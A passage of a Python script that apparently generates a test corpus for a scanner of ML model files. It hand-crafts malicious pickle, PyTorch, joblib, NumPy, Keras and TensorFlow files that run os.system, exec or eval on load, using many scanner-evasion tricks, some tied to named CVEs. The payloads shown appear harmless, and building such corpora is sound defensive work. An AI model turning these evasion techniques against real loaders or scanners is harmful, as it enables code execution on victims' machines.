    # INST / OBJ / NEWOBJ / NEWOBJ_EX
    bad(
        fam,
        "inst_builtin_exec.pkl",
        MARK + s0(PYCODE) + INST + b"__builtin__\nexec\n" + STOP,
        "INST",
        "picklescan malicious10",
    )
    bad(fam, "inst_os_system.pkl", MARK + s0(SHELL) + INST + b"os\nsystem\n" + STOP, "INST")
    bad(fam, "obj_os_system.pkl", pk(MARK + g("os", "system") + u(SHELL) + OBJ, 2), "OBJ")
    bad(
        fam,
        "obj_stack_global_subprocess.pkl",
        pk(MARK + sg("subprocess", "Popen") + enc([SHELL]) + OBJ, 4),
        "OBJ with STACK_GLOBAL",
    )
    bad(
        fam,
        "newobj_subprocess_Popen.pkl",
        pk(g("subprocess", "Popen") + enc(([SHELL],)) + NEWOBJ, 2),
        "NEWOBJ",
    )
    bad(
        fam,
        "newobj_ex_subprocess_Popen.pkl",
        pk(sg("subprocess", "Popen") + enc(([SHELL],)) + enc({"shell": False}) + NEWOBJ_EX, 4),
        "NEWOBJ_EX",
    )

    # EXT codes registered through copyreg first
    for name, op, code in [
        ("ext1_copyreg_os_system.pkl", EXT1, bytes([0xF0])),
        ("ext2_copyreg_os_system.pkl", EXT2, struct.pack("<H", 0x1234)),
        ("ext4_copyreg_os_system.pkl", EXT4, struct.pack("<i", 0x123456)),
    ]:
        n = int.from_bytes(code, "little")
        body = (
            call(g("copyreg", "add_extension"), "os", "system", n)
            + POP
            + op
            + code
            + MARK
            + u(SHELL)
            + TUPLE
            + REDUCE
        )
        bad(fam, name, pk(body, 2), f"{op!r} extension code after copyreg.add_extension")
    bad(
        fam,
        "ext1_bare.pkl",
        pk(EXT1 + b"\x01" + MARK + u(SHELL) + TUPLE + REDUCE, 2),
        "EXT1 with no registration (resolves from the loader's copyreg registry)",
    )

    # getattr chains: getattr(__import__('os'), 'system')('true')
    imp = call(sg("builtins", "__import__"), "os")
    ga = call(sg("builtins", "getattr"), Raw(imp), "system")
    bad(
        fam,
        "getattr_import_chain.pkl",
        pk(ga + MARK + u(SHELL) + TUPLE + REDUCE),
        "getattr(__import__) chain",
    )
    # getattr on an allowed-looking package reaching a dangerous attribute
    ga = call(sg("builtins", "getattr"), Raw(sg("numpy", "ctypeslib")), "load_library")
    bad(
        fam,
        "getattr_numpy_submodule.pkl",
        pk(ga + MARK + u("libc") + u("/lib") + TUPLE + REDUCE),
        "getattr(numpy.ctypeslib, 'load_library')",
    )
    ga = call(sg("builtins", "getattr"), Raw(call(sg("importlib", "import_module"), "os")), "system")
    bad(
        fam,
        "getattr_import_module_chain.pkl",
        pk(ga + MARK + u(SHELL) + TUPLE + REDUCE),
        "getattr(importlib.import_module('os'), 'system')",
    )
    # dotted attribute traversal from a harmless-looking module: pathlib.os.system
    bad(
        fam,
        "dotted_traversal_pathlib_os_system.pkl",
        reduce_pickle("pathlib", "os.system", SHELL),
        "STACK_GLOBAL with dotted name reaching os through an allowed-looking module",
    )
    bad(
        fam,
        "dotted_traversal_tempfile_os_system.pkl",
        reduce_pickle("tempfile", "_os.system", SHELL),
        "dotted name through a private module alias",
    )
    # operator.attrgetter / methodcaller
    ag = call(sg("operator", "attrgetter"), "system")
    imp = call(sg("builtins", "__import__"), "os")
    body = call(ag, Raw(imp)) + MARK + u(SHELL) + TUPLE + REDUCE
    bad(
        fam,
        "operator_attrgetter_chain.pkl",
        pk(body),
        "operator.attrgetter('system')(__import__('os'))",
        "picklescan malicious12",
    )
    mc = call(sg("operator", "methodcaller"), "system", SHELL)
    loc = call(sg("pydoc", "locate"), "os")
    bad(
        fam,
        "GHSA-84r2-jw7c-4r5q_methodcaller_pydoc_locate.pkl",
        pk(call(mc, Raw(loc))),
        "operator.methodcaller + pydoc.locate",
        "GHSA-84r2-jw7c-4r5q",
    )
    mc = call(sg("_operator", "methodcaller"), "system", SHELL)
    bad(
        fam,
        "_operator_methodcaller_import_module.pkl",
        pk(call(mc, Raw(call(sg("importlib", "import_module"), "os")))),
        "_operator.methodcaller",
    )
    ig = call(sg("operator", "itemgetter"), "system")
    bad(
        fam,
        "operator_itemgetter_vars.pkl",
        pk(
            call(ig, Raw(call(sg("builtins", "vars"), Raw(call(sg("builtins", "__import__"), "os")))))
            + MARK
            + u(SHELL)
            + TUPLE
            + REDUCE
        ),
        "operator.itemgetter on vars(module)",
    )
    # functools.partial
    part = call(sg("functools", "partial"), Raw(sg("os", "system")), SHELL)
    bad(
        fam,
        "functools_partial_os_system.pkl",
        pk(part + EMPTY_TUPLE + REDUCE),
        "functools.partial(os.system)",
    )
    part = call(sg("functools", "partial"), Raw(sg("torch", "load")), "some_other_model.bin")
    bad(
        fam,
        "functools_partial_torch_load.pkl",
        pk(part + EMPTY_TUPLE + REDUCE),
        "functools.partial(torch.load)",
        "picklescan malicious19",
    )
    part = call(sg("_functools", "reduce"), Raw(sg("builtins", "eval")), [PYCODE])
    bad(fam, "_functools_reduce_eval.pkl", pk(part), "_functools.reduce(eval, [code])")
    # nested reduces (Sour Pickles, BlackHat 2011)
    sour = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'print(\"mlflow-modelkit-test\")'\n"
        b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n."
    )
    bad(
        fam,
        "sour_pickles_nested_reduce.pkl",
        sour,
        "nested reduces: eval(compile(...), globals())",
        "Slaviero, Sour Pickles (BH US 2011)",
    )
    nested = call(sg("builtins", "eval"), Raw(call(sg("builtins", "compile"), PYCODE, "<s>", "exec")))
    bad(fam, "nested_reduce_eval_compile.pkl", pk(nested), "nested reduce")
    # BUILD with __setstate__ tricks: give an instance a __setstate__ attribute, then BUILD again
    obj = sg("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ
    state = MARK + NONE + EMPTY_DICT + u("__setstate__") + sg("os", "system") + SETITEM + TUPLE
    body = obj + state + BUILD + u(SHELL) + BUILD
    bad(
        fam,
        "build_setstate_attribute.pkl",
        pk(body),
        "BUILD slotstate sets __setstate__=os.system, second BUILD calls it",
    )
    body = (
        sg("collections", "OrderedDict")
        + EMPTY_TUPLE
        + NEWOBJ
        + MARK
        + NONE
        + EMPTY_DICT
        + u("__setstate__")
        + call(sg("builtins", "getattr"), Raw(call(sg("builtins", "__import__"), "os")), "system")
        + SETITEM
        + TUPLE
        + BUILD
        + u(SHELL)
        + BUILD
    )
    bad(fam, "build_setstate_getattr.pkl", pk(body), "BUILD __setstate__ via getattr chain")
    # dict-item smuggling: the call happens inside SETITEMS of an innocent dict
    body = (
        EMPTY_DICT + MARK + u("weight") + enc([1.0]) + u("bias") + call(sg("os", "system"), SHELL) + SETITEMS
    )
    bad(fam, "call_hidden_in_dict.pkl", pk(body), "REDUCE hidden as a dict value")
    # protocol 0 text pickles
    bad(
        fam,
        "proto0_text_subprocess.pkl",
        b"csubprocess\ncheck_output\n((lp0\nVtrue\np1\natp2\nRp3\n.",
        "protocol 0 text",
    )
    bad(
        fam,
        "proto0_unicode_eval.pkl",
        b"c__builtin__\neval\n(V" + PYCODE.encode() + b"\ntR.",
        "protocol 0 UNICODE",
    )
    # protocol 5 framed, payload split across frames
    # frames end on opcode boundaries, as the unpickler requires
    part1 = sg("os", "system")
    part2 = MARK + u(SHELL) + TUPLE + REDUCE + STOP
    framed = PROTO + b"\x05" + FRAME + struct.pack("<Q", len(part1)) + part1 + FRAME
    framed += struct.pack("<Q", len(part2)) + part2
    bad(fam, "proto5_frames.pkl", framed, "FRAME opcodes splitting the payload")
    # several pickles in one stream
    benign = pk(enc({"lr": 0.01, "epochs": 3}), 2)
    bad(
        fam,
        "stream_second_pickle_malicious.pkl",
        benign + reduce_pickle("os", "system", SHELL, proto=2),
        "two pickles, only the second malicious",
        "picklescan malicious6",
    )
    bad(
        fam,
        "stream_fifth_pickle_malicious.pkl",
        benign * 4 + reduce_pickle("builtins", "exec", PYCODE),
        "five pickles, the last malicious",
    )
    bad(
        fam,
        "after_junk_header.pkl",
        b"MODELKIT-CUSTOM-HEADER v1\n" + bytes(range(32)) * 4 + reduce_pickle("os", "system", SHELL),
        "malicious pickle after a junk header",
    )
    bad(
        fam,
        "after_benign_pickle_and_padding.pkl",
        benign + b"\x00" * 512 + reduce_pickle("os", "system", SHELL),
        "malicious pickle after a benign pickle and zero padding",
    )
    # truncated: the call happens before the loader hits EOF
    bad(
        fam,
        "truncated_after_reduce.pkl",
        (reduce_pickle("os", "system", SHELL))[:-1] + MARK + u("trunc"),
        "truncated after REDUCE (executes before the error)",
    )
    bad(
        fam, "no_proto_binary.pkl", call(sg("os", "system"), SHELL) + STOP, "protocol 4 opcodes without PROTO"
    )
    bad(
        fam,
        "bad_proto_number.pkl",
        PROTO + b"\x04" + call(g("os", "system"), SHELL) + STOP,
        "GLOBAL inside a PROTO 4 pickle",
    )
    # persistent id carrying a dangerous call (torch-style persistent_load)
    body = call(sg("os", "system"), SHELL) + TUPLE1 + BINPERSID
    bad(fam, "binpersid_with_reduce.pkl", pk(body, 2), "REDUCE inside a persistent id")
    # dangerous global whose result is only stored (no call): still an import of os.system
    bad(
        fam,
        "global_without_call.pkl",
        pk(EMPTY_DICT + u("f") + sg("os", "system") + SETITEM),
        "import of os.system without a call (reference kept in data)",
    )


# --------------------------------------------------------------------------------------------
# malicious: torch

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def torch_payload() -> bytes:
    """A data.pkl that looks like a state dict but calls os.system while loading."""
    body = (
        g("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + MARK
        + u("layer.weight")
        + call(g("os", "system"), SHELL)
        + SETITEMS
    )
    return pk(body, 2)


def torch_zip(
    prefix: str, data_pkl: bytes, extra: list[tuple[str, bytes]] | None = None, pkl_name: str = "data.pkl"
) -> bytes:
    p = f"{prefix}/" if prefix else ""
    members = [
        (f"{p}{pkl_name}", data_pkl),
        (f"{p}byteorder", b"little"),
        (f"{p}data/0", b"\x00" * 64),
        (f"{p}version", b"3\n"),
        (f"{p}.data/serialization_id", b"1234567890123456789012345678901234567890"),
    ]
    return zip_bytes(members + (extra or []))


def legacy_torch(payload: bytes) -> bytes:
    magic = pk(enc(TORCH_MAGIC), 2)
    version = pk(enc(1001), 2)
    sysinfo = pk(
        enc(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
        ),
        2,
    )
    keys = pk(enc([]), 2)
    return magic + version + sysinfo + payload + keys


def gen_torch(c: Corpus, torch: Any) -> None:
    fam = "torch"
    mal = torch_payload()
    c.bad(fam, "zip_archive_data_pkl.pt", torch_zip("archive", mal), "PyTorch zip, archive/data.pkl")
    c.bad(fam, "zip_custom_topdir.pth", torch_zip("x", mal), "PyTorch zip, x/data.pkl")
    c.bad(fam, "zip_no_topdir.bin", torch_zip("", mal), "PyTorch zip, data.pkl without a top dir")
    c.bad(fam, "zip_deep_topdir.ckpt", torch_zip("a/b/c", mal), "PyTorch zip, nested top dir")
    c.bad(
        fam,
        "zip_other_pickle_name.pt",
        torch_zip("archive", pk(enc({"w": 1}), 2), [("archive/extra/constants.pkl", mal)]),
        "malicious constants.pkl next to a benign data.pkl",
    )
    c.bad(
        fam,
        "CVE-2025-1889_member_nonstandard_ext.pt",
        torch_zip("archive", pk(enc({"w": 1}), 2), [("archive/config.json", mal)]),
        "pickle member named .json (torch.load(pickle_file=...))",
        "CVE-2025-1889 (Sonatype): non-standard pickle extensions not scanned",
    )
    c.bad(
        fam,
        "zip_member_bin_pickle.pt",
        torch_zip("archive", mal, pkl_name="data.bin"),
        "pickle member named data.bin",
    )
    c.bad(fam, "zip_no_extension", torch_zip("archive", mal), "PyTorch zip with no file extension")
    c.bad(
        fam,
        "zip_deflated.pt",
        zip_bytes([("archive/data.pkl", mal), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
        "PyTorch-like zip with deflated members",
    )
    # CVE-2025-10156 (JFrog): CRC mismatch makes Python's zipfile raise while torch ignores the CRC
    z = bytearray(torch_zip("archive", mal))
    i = z.find(b"PK\x03\x04")
    z[i + 14 : i + 18] = b"\xde\xad\xbe\xef"
    j = z.find(b"PK\x01\x02")
    z[j + 16 : j + 20] = b"\xde\xad\xbe\xef"
    c.bad(
        fam,
        "CVE-2025-10156_crc_mismatch.pt",
        bytes(z),
        "zip CRC mismatch",
        "CVE-2025-10156 (JFrog): bad CRC crashes the scanner, not torch.load",
    )
    # CVE-2025-10155 (JFrog): a raw pickle with a PyTorch extension
    c.bad(
        fam,
        "CVE-2025-10155_raw_pickle.bin",
        reduce_pickle("os", "system", SHELL),
        "raw pickle with a .bin extension",
        "CVE-2025-10155 (JFrog) / GHSA-jgw4-cr84-mqxg",
    )
    c.bad(
        fam,
        "CVE-2025-10155_raw_pickle.pt",
        reduce_pickle("builtins", "exec", PYCODE, proto=2),
        "raw pickle with a .pt extension",
        "CVE-2025-10155 (JFrog)",
    )
    # legacy (non-zip) format: magic, version, sys_info, data, storage keys
    c.bad(
        fam,
        "legacy_5_pickles.pt",
        legacy_torch(reduce_pickle("os", "system", SHELL, proto=2)),
        "legacy torch format, malicious 4th pickle",
    )
    c.bad(
        fam,
        "legacy_malicious_keys.pt",
        legacy_torch(pk(enc({"w": 1}), 2))[: -len(pk(enc([]), 2))]
        + reduce_pickle("builtins", "eval", PYCODE, proto=2),
        "legacy torch format, malicious 5th pickle",
    )
    magic_bypass = (
        reduce_pickle("builtins", "eval", hex(TORCH_MAGIC), proto=2)
        + pk(enc(1001), 2)
        + pk(enc({}), 2)
        + pk(enc([]), 2)
        + reduce_pickle("os", "system", SHELL, proto=2)
        + pk(NONE, 2)
    )
    c.bad(
        fam,
        "picklescan_legacy_magic_bypass.pt",
        magic_bypass,
        "magic number produced by eval",
        "picklescan test pytorch_magic_bypass",
    )
    c.bad(
        fam,
        "legacy_tar_format.tar",
        tar_bytes(
            [
                ("sys_info", pk(enc({"little_endian": True}), 2)),
                ("pickle", reduce_pickle("os", "system", SHELL, proto=2)),
                ("storages", pk(enc(0), 2)),
                ("tensors", pk(enc(0), 2)),
            ]
        ),
        "legacy tar torch format (pickle member)",
    )
    # torch.save of a harmless state dict, then data.pkl replaced (needs torch)
    if torch is not None:
        buf = io.BytesIO()
        torch.save({"w": torch.zeros(4)}, buf)
        src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as dst:
            for info in src.infolist():
                data = src.read(info.filename)
                if info.filename.endswith("/data.pkl"):
                    data = mal
                dst.writestr(info, data)
        c.bad(
            fam,
            "torch_save_replaced_data_pkl.pt",
            out.getvalue(),
            "real torch.save output with data.pkl replaced",
            f"torch {torch.__version__}",
        )
        # a real TorchScript archive with a malicious constants.pkl
        try:
            m = torch.jit.script(torch.nn.Linear(2, 2))
            buf = io.BytesIO()
            torch.jit.save(m, buf)
            src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w") as dst:
                for info in src.infolist():
                    data = src.read(info.filename)
                    if info.filename.endswith("constants.pkl"):
                        data = mal
                    dst.writestr(info, data)
            c.bad(
                fam,
                "torchscript_constants_pkl.pt",
                out.getvalue(),
                "TorchScript archive, malicious constants.pkl",
                f"torch {torch.__version__}",
            )
        except Exception as e:  # pragma: no cover - torch.jit unavailable
            c.skipped.append(f"torch/torchscript_constants_pkl.pt: {e}")
    else:
        c.skipped.append("torch/torch_save_replaced_data_pkl.pt: torch not importable")


# --------------------------------------------------------------------------------------------
# malicious: joblib


def gen_joblib(c: Corpus) -> None:
    fam = "joblib"
    # what joblib.dump writes for {"model": <estimator>}: a pickle referencing sklearn, here with a call
    payload = pk(
        EMPTY_DICT
        + u("model")
        + call(sg("os", "system"), SHELL)
        + SETITEM
        + u("_sklearn_version")
        + u("1.9.1")
        + SETITEM,
        4,
    )
    wrapper = pk(
        sg("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + enc({"subclass": None, "shape": (2,), "order": "C", "dtype": None, "allow_mmap": False})
        + BUILD
        + POP
        + call(sg("builtins", "exec"), PYCODE),
        4,
    )
    c.bad(fam, "model.joblib", payload, "uncompressed joblib (plain pickle)")
    c.bad(fam, "numpy_wrapper_then_exec.joblib", wrapper, "joblib NumpyArrayWrapper then exec")
    c.bad(fam, "model_zlib.joblib", zlib.compress(payload, 3), "joblib compress=3 (zlib stream)")
    c.bad(fam, "model.joblib.z", zlib.compress(payload, 9), "joblib .z (zlib)")
    c.bad(fam, "model_gzip.joblib", gzip.compress(payload, mtime=0), "joblib compress=('gzip',3)")
    c.bad(fam, "model.joblib.gz", gzip.compress(wrapper, mtime=0), "joblib .gz")
    c.bad(fam, "model_bz2.joblib", bz2.compress(payload), "joblib compress=('bz2',3)")
    c.bad(fam, "model_xz.joblib", lzma.compress(payload, format=lzma.FORMAT_XZ), "joblib compress=('xz',3)")
    c.bad(
        fam,
        "model_lzma.joblib",
        lzma.compress(payload, format=lzma.FORMAT_ALONE),
        "joblib compress=('lzma',3)",
    )
    c.bad(fam, "model.pkl.lzma", lzma.compress(wrapper, format=lzma.FORMAT_ALONE), "joblib .lzma")
    try:
        import zstandard

        c.bad(fam, "model.joblib.zst", zstandard.ZstdCompressor().compress(payload), "zstd-compressed pickle")
    except ImportError:
        c.skipped.append("joblib/model.joblib.zst: zstandard not importable")
    try:
        import lz4.frame  # type: ignore[import-not-found]

        c.bad(fam, "model.joblib.lz4", lz4.frame.compress(payload), "joblib compress='lz4'")
    except ImportError:
        c.skipped.append("joblib/model.joblib.lz4: lz4 not importable")


# --------------------------------------------------------------------------------------------
# malicious: numpy


def npy(header: dict[str, Any], body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    h = repr(header).encode("latin1")
    hlen_size = 2 if version[0] == 1 else 4
    pad = 64 - (10 + (hlen_size - 2) + len(h) + 1) % 64
    h = h + b" " * (pad % 64) + b"\n"
    if version[0] == 1:
        hdr = b"\x93NUMPY" + bytes(version) + struct.pack("<H", len(h))
    else:
        hdr = b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(h))
    return hdr + h + body


def gen_numpy(c: Corpus) -> None:
    fam = "numpy"
    mal = reduce_pickle("os", "system", SHELL, proto=3)
    obj_hdr = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    c.bad(fam, "object_array.npy", npy(obj_hdr, mal), "object .npy whose pickle calls os.system")
    # realistic: what np.save writes for an object array (ndarray reconstruct) with a malicious element
    arr = (
        call(sg("numpy.core.multiarray", "_reconstruct"), Raw(sg("numpy", "ndarray")), (0,), b"b")
        + MARK
        + BININT1
        + b"\x01"
        + enc((1,))
        + call(sg("numpy", "dtype"), "O8", False, True)
        + MARK
        + BININT1
        + b"\x03"
        + u("|")
        + NONE
        + NONE
        + NONE
        + BININT
        + struct.pack("<i", -1)
        + BININT
        + struct.pack("<i", -1)
        + BININT1
        + b"\x3f"
        + TUPLE
        + BUILD
        + NEWFALSE
        + EMPTY_LIST
        + call(sg("builtins", "eval"), PYCODE)
        + APPEND
        + TUPLE
        + BUILD
    )
    c.bad(
        fam, "object_array_realistic.npy", npy(obj_hdr, pk(arr, 3)), "ndarray reconstruct with eval element"
    )
    c.bad(fam, "object_array_v2.npy", npy(obj_hdr, mal, (2, 0)), "format 2.0 header")
    c.bad(fam, "object_array_v3.npy", npy(obj_hdr, mal, (3, 0)), "format 3.0 header")
    c.bad(
        fam,
        "structured_object_field.npy",
        npy({"descr": [("a", "<f4"), ("b", "|O")], "fortran_order": False, "shape": (1,)}, mal),
        "structured dtype with an object field",
    )
    c.bad(
        fam,
        "object_array.npz",
        zip_bytes(
            [
                ("arr_0.npy", npy(obj_hdr, mal)),
                ("arr_1.npy", npy({"descr": "<f4", "fortran_order": False, "shape": (4,)}, b"\x00" * 16)),
            ]
        ),
        "npz with a malicious object array",
    )
    c.bad(
        fam,
        "object_array_compressed.npz",
        zip_bytes([("x.npy", npy(obj_hdr, mal))], zipfile.ZIP_DEFLATED),
        "savez_compressed",
    )
    c.bad(
        fam,
        "npy_named_as_npz_member.npz",
        zip_bytes([("weights", npy(obj_hdr, mal))]),
        "npz member without .npy extension",
    )


# --------------------------------------------------------------------------------------------
# malicious: keras


def lambda_code_b64(src: str = "lambda x: __import__('os').system('true') or x") -> str:
    """Marshal the code object of a lambda (compiled, never run), as Keras stores Lambda layers."""
    module_code = compile(src, "<lambda>", "eval")
    fn_code = next(k for k in module_code.co_consts if isinstance(k, types.CodeType))
    return base64.b64encode(marshal.dumps(fn_code)).decode()


def keras_layer(cls: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None}


def keras_lambda_layer(name: str = "lambda") -> dict[str, Any]:
    fn = {
        "module": "builtins",
        "class_name": "function",
        "config": {"code": lambda_code_b64(), "defaults": None, "closure": None},
        "registered_name": "function",
    }
    return keras_layer(
        "Lambda",
        {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": fn,
            "arguments": {},
            "output_shape": None,
        },
    )


def keras_model_config(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                keras_layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}),
                *layers,
            ],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def dense(name: str = "dense") -> dict[str, Any]:
    return keras_layer(
        "Dense",
        {
            "name": name,
            "units": 2,
            "activation": "relu",
            "use_bias": True,
            "trainable": True,
            "dtype": "float32",
        },
    )


def keras_zip(config: dict[str, Any], weights: bytes = b"") -> bytes:
    meta = {"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}
    members = [("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config).encode())]
    if weights:
        members.append(("model.weights.h5", weights))
    return zip_bytes(members, zipfile.ZIP_DEFLATED)


def h5_with_config(h5py: Any, path: Path, config: dict[str, Any]) -> None:
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights").create_dataset("dense/kernel", data=[[0.0, 0.0]] * 4)


def gen_keras(c: Corpus, h5py: Any) -> None:
    fam = "keras"
    c.bad(
        fam,
        "lambda_layer.keras",
        keras_zip(keras_model_config([dense(), keras_lambda_layer()])),
        "Lambda layer with marshalled code in config.json",
        "CVE-2024-3660 class",
    )
    inner = keras_model_config([keras_lambda_layer("inner_lambda")])
    inner["config"]["name"] = "inner"
    c.bad(
        fam,
        "nested_model_lambda.keras",
        keras_zip(keras_model_config([dense(), inner])),
        "Lambda inside a nested model",
    )
    cfg = keras_model_config([dense()])
    cfg["config"]["layers"][1]["config"]["activation"] = {
        "module": "os",
        "class_name": "system",
        "config": {"command": SHELL},
        "registered_name": "system",
    }
    c.bad(
        fam,
        "CVE-2025-1550_arbitrary_module.keras",
        keras_zip(cfg),
        "config.json names an arbitrary module/function (os.system)",
        "CVE-2025-1550: safe_mode bypass via module/class_name in config.json",
    )
    cfg = keras_model_config([keras_layer("Popen", {"args": [SHELL]}, module="subprocess"), dense()])
    c.bad(fam, "custom_object_subprocess.keras", keras_zip(cfg), "layer class from module subprocess")
    cfg = keras_model_config([dense()])
    cfg["config"]["layers"].insert(1, keras_layer("enable_unsafe_deserialization", {}, module="keras.config"))
    cfg["config"]["layers"].append(keras_lambda_layer())
    c.bad(
        fam,
        "enable_unsafe_deserialization_then_lambda.keras",
        keras_zip(cfg),
        "config calls keras.config.enable_unsafe_deserialization before a Lambda",
        "CVE-2025-1550 follow-up PoCs",
    )
    # legacy tf.keras JSON config (function as [code, defaults, closure])
    legacy = {
        "class_name": "Sequential",
        "config": {
            "name": "seq",
            "layers": [
                {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}},
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": [lambda_code_b64(), None, None],
                        "function_type": "lambda",
                        "module": "__main__",
                        "output_shape": None,
                        "arguments": {},
                    },
                },
            ],
        },
    }
    c.bad(fam, "legacy_config_lambda.json", json.dumps(legacy).encode(), "tf.keras model JSON with a Lambda")
    if h5py is not None:
        p = c.path("malicious", fam, "lambda_model_config.h5")
        h5_with_config(h5py, p, legacy)
        c.record(p, "malicious", fam, "HDF5 model_config attribute with a Lambda", f"h5py {h5py.__version__}")
        p = c.path("malicious", fam, "lambda_keras3_config.h5")
        h5_with_config(h5py, p, keras_model_config([dense(), keras_lambda_layer()]))
        c.record(
            p, "malicious", fam, "HDF5 model_config (Keras 3 style) with a Lambda", f"h5py {h5py.__version__}"
        )
        p = c.path("malicious", fam, "lambda_in_keras_zip_weights.keras")
        tmp = c.out / ".tmp-weights.h5"
        with h5py.File(tmp, "w") as f:
            f.create_dataset("layers/dense/vars/0", data=[[0.0, 0.0]] * 4)
        p.write_bytes(keras_zip(keras_model_config([keras_lambda_layer()]), tmp.read_bytes()))
        tmp.unlink()
        c.record(p, "malicious", fam, ".keras with weights.h5 and a Lambda layer", f"h5py {h5py.__version__}")
    else:
        c.skipped.append("keras/*.h5: h5py not importable")


# --------------------------------------------------------------------------------------------
# protobuf hand-encoding (TensorFlow SavedModel, ONNX)


def varint(n: int) -> bytes:
    out = bytearray()
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_bytes(field: int, data: bytes | str) -> bytes:
    if isinstance(data, str):
        data = data.encode()
    return varint(field << 3 | 2) + varint(len(data)) + data


def pb_int(field: int, n: int) -> bytes:
    return varint(field << 3) + varint(n)


def tf_node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: dict[str, bytes] | None = None) -> bytes:
    b = pb_bytes(1, name) + pb_bytes(2, op) + b"".join(pb_bytes(3, i) for i in inputs)
    for k, v in (attrs or {}).items():
        b += pb_bytes(5, pb_bytes(1, k) + pb_bytes(2, v))  # map<string, AttrValue>
    return b


def tf_attr_s(s: str) -> bytes:
    return pb_bytes(2, s)  # AttrValue.s


def tf_saved_model(nodes: list[bytes], library_fn: tuple[str, list[bytes]] | None = None) -> bytes:
    graph = b"".join(pb_bytes(1, n) for n in nodes)
    if library_fn:
        fname, fnodes = library_fn
        fdef = pb_bytes(1, pb_bytes(1, fname)) + b"".join(pb_bytes(3, n) for n in fnodes)
        graph += pb_bytes(2, pb_bytes(1, fdef))
    graph += pb_bytes(4, pb_int(1, 1987))  # versions.producer
    # MetaInfoDef: tags=4, tensorflow_version=5, tensorflow_git_version=6
    meta_info = pb_bytes(4, "serve") + pb_bytes(5, "2.16.1") + pb_bytes(6, "v2.16.1-0-g5bc9d26649c")
    meta_graph = pb_bytes(1, meta_info) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta_graph)


def base_tf_nodes() -> list[bytes]:
    return [
        tf_node("x", "Placeholder", attrs={"dtype": pb_int(6, 1)}),
        tf_node("w", "Const", attrs={"dtype": pb_int(6, 1)}),
        tf_node("y", "MatMul", ("x", "w")),
    ]


def gen_tensorflow(c: Corpus) -> None:
    fam = "tensorflow"

    def save(name: str, data: bytes, technique: str, note: str = "") -> None:
        c.bad(fam, f"{name}/saved_model.pb", data, technique, note)

    save(
        "readfile",
        tf_saved_model([*base_tf_nodes(), tf_node("path", "Const"), tf_node("leak", "ReadFile", ("path",))]),
        "ReadFile op",
    )
    save(
        "writefile",
        tf_saved_model(
            [
                *base_tf_nodes(),
                tf_node("p", "Const"),
                tf_node("c", "Const"),
                tf_node("drop", "WriteFile", ("p", "c")),
            ]
        ),
        "WriteFile op",
    )
    save(
        "pyfunc",
        tf_saved_model([*base_tf_nodes(), tf_node("cb", "PyFunc", ("y",), {"token": tf_attr_s("pyfunc_0")})]),
        "PyFunc op",
    )
    save(
        "eager_pyfunc",
        tf_saved_model(
            [*base_tf_nodes(), tf_node("cb", "EagerPyFunc", ("y",), {"token": tf_attr_s("pyfunc_1")})]
        ),
        "EagerPyFunc op",
    )
    save(
        "pyfunc_stateless",
        tf_saved_model([*base_tf_nodes(), tf_node("cb", "PyFuncStateless", ("y",))]),
        "PyFuncStateless op",
    )
    save(
        "readfile_in_function_library",
        tf_saved_model(
            base_tf_nodes(),
            ("__inference_serve_42", [tf_node("p", "Const"), tf_node("r", "ReadFile", ("p",))]),
        ),
        "ReadFile hidden in the graph's function library",
    )
    save(
        "matching_files_and_write",
        tf_saved_model(
            [
                *base_tf_nodes(),
                tf_node("pat", "Const"),
                tf_node("ls", "MatchingFiles", ("pat",)),
                tf_node("w", "WriteFile", ("pat", "ls")),
            ]
        ),
        "MatchingFiles + WriteFile",
    )
    save(
        "debug_print_to_file",
        tf_saved_model(
            [
                *base_tf_nodes(),
                tf_node("p", "PrintV2", ("y",), {"output_stream": tf_attr_s("file://" + NOPATH)}),
            ]
        ),
        "PrintV2 writing to a file",
    )
    c.bad(
        fam,
        "renamed/model.pb",
        tf_saved_model([*base_tf_nodes(), tf_node("r", "ReadFile", ("x",))]),
        "ReadFile in a .pb not named saved_model.pb",
    )


def onnx_model(initializers: list[bytes], nodes: list[bytes] | None = None) -> bytes:
    graph = b"".join(pb_bytes(1, n) for n in (nodes or []))
    graph += pb_bytes(2, "g") + b"".join(pb_bytes(5, t) for t in initializers)
    graph += pb_bytes(12, pb_bytes(1, "y"))  # output ValueInfo
    opset = pb_bytes(1, "") + pb_int(2, 17)
    return pb_int(1, 8) + pb_bytes(2, "mlflow-modelkit-bench") + pb_bytes(7, graph) + pb_bytes(8, opset)


